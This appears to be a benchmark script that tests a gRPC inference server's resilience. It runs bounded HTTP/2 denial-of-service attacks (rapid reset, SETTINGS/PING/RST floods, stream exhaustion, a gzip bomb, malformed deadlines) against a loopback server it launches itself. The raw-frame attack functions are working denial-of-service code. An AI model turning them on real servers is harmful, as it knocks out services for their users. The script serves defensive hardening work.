"""gRPC under attack (issue 42): one hostile connection beside a legitimate client.

For each attack class, a fresh server (`simple`, loopback only, ports picked here) serves a
legitimate client at concurrency 1 (ModelInfer on `simple`, 5 s timeout) while one attacker
runs the class for `--seconds` (bounded loops: every attacker stops by itself at its deadline,
and sends only to 127.0.0.1 on the port this script started). Per class: the legitimate
client's calls, failures, p50 and worst latency; what became of the attacker (GOAWAY and its
code, closed, or still served); the server's RSS before, at its peak and 2 s after the attack.
Spent and malformed deadlines are counted instead: of N calls, how many were answered.

    python bench/grpc_hostile.py [--seconds 10] [--classes settings_noread,rapid_reset,...]
                                 [--baseline DIR] [--deadline-calls 20000]

`--baseline DIR` runs the same classes against the Oceanus of another checkout (a before/after
in one run). Results: printed as a Markdown table, written to bench/results/grpc-hostile-<ts>.json.
"""

from __future__ import annotations

import argparse
import gzip
import json
import socket
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import grpc
import h2.config
import h2.connection
import h2.events
import hpack
import numpy as np
from tritonclient.grpc import service_pb2 as pb

sys.path.insert(0, str(Path(__file__).parent))
import benchlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big")
    return head + payload


def request_block(encoder: hpack.Encoder, path: str) -> bytes:
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )


def simple_request() -> bytes:
    request = pb.ModelInferRequest(model_name="simple")
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype="INT32", shape=[1, 16])
        request.raw_input_contents.append(np.full(16, 2, np.int32).tobytes())
    data: bytes = request.SerializeToString()
    return data


# ---- the attacker: a raw socket ----------------------------------------------------------


class Raw:
    """One hostile connection: sends what it is told until its deadline; reads only if asked."""

    def __init__(self, port: int, deadline: float) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=0.2)
        self.deadline = deadline
        self.sent = 0
        self.received = bytearray()
        self.outcome = "served until the end"
        self.send(PREFACE + frame(4, 0, 0))

    def live(self) -> bool:
        return time.monotonic() < self.deadline and self.outcome == "served until the end"

    def send(self, data: bytes) -> bool:
        view = memoryview(data)
        while view and time.monotonic() < self.deadline:
            try:
                n = self.sock.send(view)
            except TimeoutError:
                continue  # the server reads nothing more of us (for now)
            except OSError:
                self.closed()
                return False
            self.sent += n
            view = view[n:]
        return not view

    def read(self) -> None:
        try:
            self.sock.settimeout(0.0)
            while len(self.received) < 1 << 20:
                data = self.sock.recv(65536)
                if not data:
                    self.closed()
                    break
                self.received += data
        except (BlockingIOError, TimeoutError):
            pass
        except OSError:
            self.closed()
        finally:
            self.sock.settimeout(0.2)
        # the first GOAWAY among what came back
        pos = 0
        received = self.received
        while pos + 9 <= len(received):
            length = int.from_bytes(received[pos : pos + 3], "big")
            if pos + 9 + length > len(received):
                break
            if received[pos + 3] == 7:
                code = int.from_bytes(received[pos + 13 : pos + 17], "big")
                self.outcome = f"GOAWAY {code}"
                return
            pos += 9 + length
        del received[:pos]

    def closed(self) -> None:
        if self.outcome == "served until the end":
            self.outcome = "closed"

    def close(self) -> None:
        self.sock.close()


def flood(port: int, deadline: float, chunk: bytes, reads: bool, setup: bytes = b"") -> Raw:
    raw = Raw(port, deadline)
    if setup:
        raw.send(setup)
    while raw.live():
        if not raw.send(chunk):
            break
        if reads:
            raw.read()
    if reads or raw.outcome == "served until the end":
        raw.read()
    return raw


def settings_noread(port: int, deadline: float) -> Raw:
    return flood(port, deadline, frame(4, 0, 0) * 5000, reads=False)


def ping_noread(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    setup = frame(1, 0x4, 1, request_block(encoder, STREAM))  # a call open: pings are allowed
    return flood(port, deadline, frame(6, 0, 0, b"12345678") * 5000, False, setup)


def rst_noread(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    setup = frame(1, 0x4, 1, request_block(encoder, STREAM))
    bad_priority = frame(2, 0, 1, b"\0\0\0\0")  # 4 bytes: a stream error, RST_STREAM each
    return flood(port, deadline, bad_priority * 5000, False, setup)


def window_flood_open_calls(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    block = request_block(encoder, STREAM)
    setup = b"".join(frame(1, 0x4, 2 * n + 1, block) for n in range(900))
    chunk = (frame(8, 0, 0, b"\0\0\0\1") + frame(4, 0, 0)) * 2500
    return flood(port, deadline, chunk, True, setup)


def rapid_reset(port: int, deadline: float) -> Raw:
    raw = Raw(port, deadline)
    encoder = hpack.Encoder()
    block = request_block(encoder, INFER)
    stream = 1
    while raw.live() and stream < 2 * 20_000:
        batch = b"".join(
            frame(1, 0x4, s, block) + frame(3, 0, s, b"\0\0\0\x08")
            for s in range(stream, stream + 2000, 2)
        )
        stream += 2000
        if not raw.send(batch):
            break
        raw.read()
    raw.read()
    return raw


def many_streams(port: int, deadline: float) -> Raw:
    raw = Raw(port, deadline)
    encoder = hpack.Encoder()
    block = request_block(encoder, STREAM)
    raw.send(b"".join(frame(1, 0x4, 2 * n + 1, block) for n in range(10_000)))
    while raw.live():
        raw.read()
        time.sleep(0.05)
    return raw


def empty_data(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    setup = frame(1, 0x4, 1, request_block(encoder, STREAM))
    raw = Raw(port, deadline)
    raw.send(setup)
    chunk = frame(0, 0, 1) * 10_000
    count = 0
    while raw.live() and count < 2_000_000:
        if not raw.send(chunk):
            break
        count += 10_000
        raw.read()
    raw.read()
    return raw


def _grpc_loop(payload: bytes, compression: Any) -> Callable[[int, float], Any]:
    def attack(port: int, deadline: float) -> dict[str, Any]:
        channel = grpc.insecure_channel(
            f"127.0.0.1:{port}", options=[("grpc.max_send_message_length", -1)]
        )
        method = channel.unary_unary(INFER)
        calls, times, codes = 0, [], set()
        while time.monotonic() < deadline:
            started = time.monotonic()
            try:
                method(payload, compression=compression, timeout=60)
                codes.add("OK")
            except grpc.RpcError as error:
                codes.add(error.code().name)
            times.append(time.monotonic() - started)
            calls += 1
        channel.close()
        return {"outcome": f"{calls} calls, {'/'.join(sorted(codes))}", "max_call_s": max(times)}

    return attack


ATTACKS: dict[str, Callable[[int, float], Any]] = {
    "settings_noread": settings_noread,
    "ping_noread": ping_noread,
    "rst_noread": rst_noread,
    "window_flood_open_calls": window_flood_open_calls,
    "rapid_reset": rapid_reset,
    "many_streams": many_streams,
    "empty_data": empty_data,
    "zeros_2mib": _grpc_loop(b"\0" * (2 << 20), None),
    "gzip_8mib_zeros": _grpc_loop(b"\0" * (8 << 20), grpc.Compression.Gzip),
    "long_name_300kb": _grpc_loop(
        pb.ModelInferRequest(model_name="m" * 300_000).SerializeToString(), None
    ),
}


# ---- the legitimate client and the server's memory ---------------------------------------


def legitimate(port: int, stop: threading.Event, out: dict[str, Any]) -> None:
    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    method = channel.unary_unary(INFER)
    request = simple_request()
    latencies: list[float] = []
    failures: dict[str, int] = {}
    while not stop.is_set():
        started = time.monotonic()
        try:
            method(request, timeout=5)
        except grpc.RpcError as error:
            name = error.code().name
            failures[name] = failures.get(name, 0) + 1
        latencies.append(time.monotonic() - started)
    channel.close()
    out["calls"] = len(latencies)
    out["failures"] = failures
    out["p50_ms"] = benchlib.percentile(latencies, 50) * 1000 if latencies else None
    out["worst_ms"] = max(latencies) * 1000 if latencies else None


def rss_mb(pid: int) -> float:
    total = 0
    for each in [pid, *benchlib.child_pids(pid)]:
        try:
            for line in Path(f"/proc/{each}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    total += int(line.split()[1])
        except OSError:
            pass
    return total / 1024


def run_class(name: str, server: Any, seconds: float) -> dict[str, Any]:
    port = server.grpc_port
    pid = server.proc.pid
    before = rss_mb(pid)
    stop = threading.Event()
    legit: dict[str, Any] = {}
    client = threading.Thread(target=legitimate, args=(port, stop, legit))
    client.start()
    time.sleep(0.5)
    peak = [before]
    sampling = threading.Event()

    def sample() -> None:
        while not sampling.is_set():
            peak[0] = max(peak[0], rss_mb(pid))
            time.sleep(0.1)

    sampler = threading.Thread(target=sample)
    sampler.start()
    started = time.monotonic()
    result = ATTACKS[name](port, started + seconds)
    attack_s = time.monotonic() - started
    if isinstance(result, Raw):
        outcome = {"outcome": result.outcome, "sent_mb": round(result.sent / 1e6, 1)}
        result.close()
    else:
        outcome = result
    time.sleep(0.5)
    stop.set()
    client.join(timeout=30)
    time.sleep(2)
    sampling.set()
    sampler.join()
    after = rss_mb(pid)
    return {
        "class": name,
        "attack_s": round(attack_s, 1),
        **outcome,
        **legit,
        "rss_before_mb": round(before),
        "rss_peak_mb": round(peak[0]),
        "rss_after_mb": round(after),
    }


# ---- spent and malformed deadlines --------------------------------------------------------

DEADLINES = ("0n", "1n", "1u", "0S", "12x", "-1S")


def deadlines(port: int, calls: int) -> dict[str, Any]:
    """`calls` calls on one connection, grpc-timeout cycling through DEADLINES, in batches of
    500 open at once: how many were answered (trailers), by grpc-status."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    message = b"\0\0\0\0\0"
    statuses: dict[str, int] = {}
    answered = 0
    sent = 0
    started = time.monotonic()
    while sent < calls:
        batch = min(500, calls - sent)
        waiting = set()
        for n in range(batch):
            stream = conn.get_next_available_stream_id()
            headers = [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", "/inference.GRPCInferenceService/ServerLive"),
                (":authority", "localhost"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                ("grpc-timeout", DEADLINES[(sent + n) % len(DEADLINES)]),
            ]
            conn.send_headers(stream, headers)
            conn.send_data(stream, message, end_stream=True)
            waiting.add(stream)
        sock.sendall(conn.data_to_send())
        sent += batch
        batch_deadline = time.monotonic() + 10
        while waiting and time.monotonic() < batch_deadline:
            try:
                data = sock.recv(1 << 16)
            except TimeoutError:
                break
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    status = dict(event.headers).get(b"grpc-status")
                    if status is not None and event.stream_id in waiting:
                        waiting.discard(event.stream_id)
                        answered += 1
                        key = status.decode()
                        statuses[key] = statuses.get(key, 0) + 1
                elif isinstance(event, h2.events.StreamReset):
                    waiting.discard(event.stream_id)
            sock.sendall(conn.data_to_send())
        if waiting:
            break
    sock.close()
    return {
        "class": "deadlines",
        "calls": sent,
        "answered": answered,
        "by_grpc_status": statuses,
        "seconds": round(time.monotonic() - started, 1),
    }


def gzip_refusal(port: int, pid: int, calls: int = 50) -> dict[str, Any]:
    """8 KB of gzip (8 MiB of zeros), compressed once here and sent as it is (raw HTTP/2, one
    call at a time): the server's time to refuse it and its RSS growth."""
    bomb = gzip.compress(b"\0" * (8 << 20))
    message = b"\1" + len(bomb).to_bytes(4, "big") + bomb
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    before = peak = rss_mb(pid)
    times = []
    statuses: dict[str, int] = {}
    for _ in range(calls):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(
            stream,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", INFER),
                (":authority", "localhost"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                ("grpc-encoding", "gzip"),
            ],
        )
        conn.send_data(stream, message, end_stream=True)
        started = time.monotonic()
        sock.sendall(conn.data_to_send())
        done = False
        while not done:
            data = sock.recv(1 << 16)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    status = dict(event.headers).get(b"grpc-status")
                    if status is not None:
                        key = status.decode()
                        statuses[key] = statuses.get(key, 0) + 1
                if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    done = True
            sock.sendall(conn.data_to_send())
        times.append(time.monotonic() - started)
        peak = max(peak, rss_mb(pid))
    sock.close()
    return {
        "class": "gzip_8kb_refusal",
        "bomb_bytes": len(bomb),
        "calls": len(times),
        "by_grpc_status": statuses,
        "median_ms": benchlib.median(times) * 1000,
        "worst_ms": max(times) * 1000,
        "rss_before_mb": round(before),
        "rss_peak_mb": round(peak),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--classes", default=",".join([*ATTACKS, "deadlines", "gzip_8kb_refusal"]))
    parser.add_argument("--baseline", type=Path, default=None)
    parser.add_argument("--deadline-calls", type=int, default=20_000)
    args = parser.parse_args()
    classes = [c for c in args.classes.split(",") if c]
    unknown = set(classes) - set(ATTACKS) - {"deadlines", "gzip_8kb_refusal"}
    if unknown:
        parser.error(f"unknown classes: {sorted(unknown)}")
    repository = benchlib.example_repository(["simple"])
    stamp = time.strftime("%Y%m%d-%H%M%S")
    log_dir = benchlib.ROOT / "bench" / "results" / f"grpc-hostile-{stamp}-logs"
    checkouts: list[tuple[str, Path | None]] = [("this", None)]
    if args.baseline is not None:
        checkouts.insert(0, ("base", args.baseline.resolve()))
    rows = []
    for tag, checkout in checkouts:
        for name in classes:
            with benchlib.oceanus_server(
                repository, log_dir, tag=f"{tag}-{name}", checkout=checkout
            ) as server:
                if name == "deadlines":
                    row = deadlines(server.grpc_port or 0, args.deadline_calls)
                elif name == "gzip_8kb_refusal":
                    row = gzip_refusal(server.grpc_port or 0, server.proc.pid)
                else:
                    row = run_class(name, server, args.seconds)
                row["server"] = tag
                print(json.dumps(row), flush=True)
                rows.append(row)
    out = benchlib.ROOT / "bench" / "results" / f"grpc-hostile-{stamp}.json"
    out.write_text(json.dumps({"seconds": args.seconds, "rows": rows}, indent=1))
    headers = ["server", "class", "legit calls", "failures", "p50 ms", "worst ms"]
    headers += ["attacker", "RSS before/peak/after MB"]
    table = []
    for row in rows:
        if row["class"] == "gzip_8kb_refusal":
            table.append(
                [
                    row["server"],
                    "gzip_8kb_refusal",
                    "-",
                    "-",
                    benchlib.fmt_num(row["median_ms"]),
                    benchlib.fmt_num(row["worst_ms"]),
                    f"{row['calls']} x {row['bomb_bytes']} B of gzip: {row['by_grpc_status']}",
                    f"{row['rss_before_mb']}/{row['rss_peak_mb']}/-",
                ]
            )
            continue
        if row["class"] == "deadlines":
            table.append(
                [
                    row["server"],
                    "deadlines",
                    "-",
                    "-",
                    "-",
                    "-",
                    f"{row['answered']} of {row['calls']} answered {row['by_grpc_status']}",
                    "-",
                ]
            )
            continue
        table.append(
            [
                row["server"],
                row["class"],
                row.get("calls"),
                sum(row.get("failures", {}).values()),
                benchlib.fmt_num(row.get("p50_ms")),
                benchlib.fmt_num(row.get("worst_ms")),
                row.get("outcome"),
                f"{row['rss_before_mb']}/{row['rss_peak_mb']}/{row['rss_after_mb']}",
            ]
        )
    print(benchlib.table(headers, table))
    print(f"written: {out}")


if __name__ == "__main__":
    main()
